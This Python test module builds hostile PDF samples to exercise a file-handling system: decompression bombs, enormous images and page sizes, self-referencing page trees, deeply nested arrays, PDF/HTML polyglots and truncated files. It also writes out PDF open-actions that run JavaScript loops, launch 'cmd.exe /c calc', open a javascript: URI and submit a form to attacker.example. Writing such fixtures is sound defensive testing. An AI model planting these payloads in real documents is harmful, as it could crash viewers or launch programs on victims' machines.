"""Hostile PDF files."""

from __future__ import annotations

import zlib
from collections.abc import Callable, Sequence

from core.files import Kind
from tests.hostile_files.sample import HostileFile

PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
CATALOG = b"<</Type/Catalog/Pages 2 0 R>>"


def pdf(*objects: bytes, trailer: bytes = b"") -> bytes:
    """Objects 1 and up, of which the first is the catalog."""
    out = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
    places: list[int] = []
    for number, content in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    rows = b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(objects) + 1
    table = b"xref\n0 %d\n0000000000 65535 f \n%s" % (size, rows)
    end = b"trailer<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF" % (size, trailer, len(out))
    return out + table + end


def stream(content: bytes, head: bytes = b"") -> bytes:
    packed = zlib.compress(content, 1)
    return b"<</Length %d/Filter/FlateDecode%s>>stream\n%s\nendstream" % (len(packed), head, packed)


def page(box: str = "0 0 595 842", more: bytes = b"/Contents 4 0 R") -> bytes:
    return b"<</Type/Page/Parent 2 0 R/MediaBox[%s]%s>>" % (box.encode(), more)


def drawing(content: bytes = b"1 0 0 rg 50 50 400 400 re f", box: str = "0 0 595 842") -> bytes:
    """A page with a red square."""
    return pdf(CATALOG, PAGES, page(box), stream(content))


def acting(action: bytes) -> bytes:
    """A page that does something when it is opened."""
    return pdf(
        b"<</Type/Catalog/Pages 2 0 R/OpenAction%s/AA<</O%s>>>>" % (action, action),
        PAGES,
        page(more=b"/Contents 4 0 R/AA<</O%s>>" % action),
        stream(b"1 0 0 rg 50 50 400 400 re f"),
    )


def with_picture(width: int, height: int, rows: int) -> bytes:
    head = b"/Type/XObject/Subtype/Image/Width %d/Height %d/ColorSpace/DeviceRGB/BitsPerComponent 8"
    return pdf(
        CATALOG,
        PAGES,
        page(more=b"/Contents 4 0 R/Resources<</XObject<</a 5 0 R>>>>"),
        stream(b"q 500 0 0 500 0 0 cm /a Do Q"),
        stream(bytes(3 * width * rows), head % (width, height)),
    )


def nested_arrays() -> bytes:
    return pdf(CATALOG, PAGES, page(more=b"/Contents 4 0 R/X" + b"[" * 100_000), stream(b""))


def _shown(make: Callable[[], bytes], *, pictures: bool, name: str = "a.pdf") -> HostileFile:
    return HostileFile(make, Kind.PDF, name, "application/pdf", pictures)


ACTIONS: Sequence[tuple[str, bytes]] = (
    ("JavaScript", b"<</S/JavaScript/JS(app.alert(1);while(1){})>>"),
    ("a program", b"<</S/Launch/F(cmd.exe)/Win<</F(cmd.exe)/P(/c calc)>>>>"),
    ("an address", b"<</S/URI/URI(javascript:alert(1))>>"),
    ("a form", b"<</S/SubmitForm/F(http://attacker.example/)>>"),
)

FILES = {
    "PDF and HTML": _shown(lambda: drawing() + b"<html><script>alert(1)</script>", pictures=True),
    "PDF as HTML": _shown(drawing, pictures=True, name="a.html"),
    "PDF of the largest page": _shown(
        lambda: drawing(box="0 0 1000000000 1000000000"), pictures=True
    ),
    "PDF of a page as a line": _shown(lambda: drawing(box="0 0 1000000000 1"), pictures=False),
    "PDF of a page without size": _shown(lambda: drawing(box="0 0 0 0"), pictures=True),
    "PDF whose pages are themselves": _shown(
        lambda: pdf(CATALOG, b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>"), pictures=False
    ),
    "PDF of 2,000,000,000 pages": _shown(
        lambda: pdf(CATALOG, b"<</Type/Pages/Kids[3 0 R]/Count 2000000000>>", page(), stream(b"")),
        pictures=True,
    ),
    "PDF with a picture of 100,000 x 100,000": _shown(
        lambda: with_picture(100_000, 100_000, 10), pictures=True
    ),
    "PDF with a picture of 15,000 x 15,000": _shown(
        lambda: with_picture(15_000, 15_000, 1_500), pictures=True
    ),
    "PDF whose content unpacks to 112 MB": _shown(
        lambda: drawing(b"0 0 m 1 1 l S " * 8_000_000), pictures=False
    ),
    "PDF whose content calls itself": _shown(
        lambda: pdf(
            CATALOG,
            PAGES,
            page(more=b"/Contents 4 0 R/Resources<</XObject<</a 5 0 R>>>>"),
            stream(b"/a Do"),
            stream(
                b"/a Do " * 50,
                b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</a 5 0 R>>>>",
            ),
        ),
        pictures=False,
    ),
    "PDF with 100,000 nested arrays": _shown(nested_arrays, pictures=True),
    "PDF with a password": _shown(
        lambda: pdf(
            CATALOG, PAGES, page(), stream(b""),
            trailer=b"/Encrypt<</Filter/Standard/V 2/R 3/Length 128/P -4/O(%s)/U(%s)>>/ID[(a)(a)]"
            % (b"a" * 32, b"b" * 32),
        ),
        pictures=False,
    ),
    "PDF without objects": _shown(lambda: b"%PDF-1.7\n" + bytes(500), pictures=False),
    "PDF cut in half": _shown(lambda: drawing()[:200], pictures=False),
    **{
        f"PDF that opens {title}": _shown(lambda act=act: acting(act), pictures=True)  # type: ignore[misc]
        for title, act in ACTIONS
    },
}  # fmt: skip
